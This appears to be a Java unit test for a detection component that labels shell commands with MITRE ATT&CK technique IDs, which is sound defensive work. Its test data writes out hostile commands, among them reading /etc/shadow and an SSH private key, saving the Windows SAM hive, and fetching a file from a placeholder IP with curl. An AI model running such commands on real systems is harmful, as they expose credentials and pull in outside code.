package io.hark.detect.decoded;

import static org.assertj.core.api.Assertions.assertThat;

import io.hark.event.Topic;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Source: the examples on the techniques' pages of ATT&CK.
class MeaningTest {

    private static List<String> of(String command) {
        return Meaning.of(Spoke.by(true).order(1, Topic.SHELL, command)).stream()
                .map(Meaning::technique)
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "whoami                                  | T1033",
                "C:\\Windows\\System32\\WHOAMI.EXE /all  | T1033",
                "uname -a                                | T1082",
                "cat /etc/os-release                     | T1082",
                "cat notes.txt                           | T1005",
                "net user                                | T1087.001",
                "net user /domain                        | T1087.002",
                "net users                               | T1087.001",
                "net start                               | T1007",
                "NET  localgroup administrators          | T1069.001",
                "cmd.exe /c tasklist /v                  | T1057",
                "powershell -nop -c \"Get-Process\"      | T1057",
                "sudo cat /etc/shadow                    | T1003",
                "sudo -l                                 | T1548.003",
                "cat ~/.ssh/id_ed25519                   | T1552.004",
                "/bin/sh -c 'curl http://192.0.2.1/a'    | T1105",
                "SHELL: ipconfig                         | T1016",
                "reg save hklm\\sam c:\\s                | T1003",
                "net use \\\\host\\c$                    | T1021.002",
            })
    void a_command_is_told_by_the_words_it_begins_with(String command, String technique) {
        assertThat(of(command)).containsExactly("T1059", technique);
    }

    @Test
    void commands_of_one_line_are_told_apart() {
        assertThat(of("cd /srv && ls -la; id | tee x")).containsExactly("T1059", "T1083", "T1033");
    }

    @ParameterizedTest
    @CsvSource({"lsblk-not", "identity", "whoamix", "''", ";;;;", "unknown-tool --id"})
    void what_only_begins_alike_means_nothing_more(String command) {
        assertThat(of(command)).containsExactly("T1059");
    }

    @Test
    void what_is_no_command_is_told_by_its_kind() {
        assertThat(Meaning.of(Spoke.by(true).order(1, Topic.SCREENSHOT, "whoami")))
                .extracting(Meaning::technique)
                .containsExactly("T1113");
    }
}
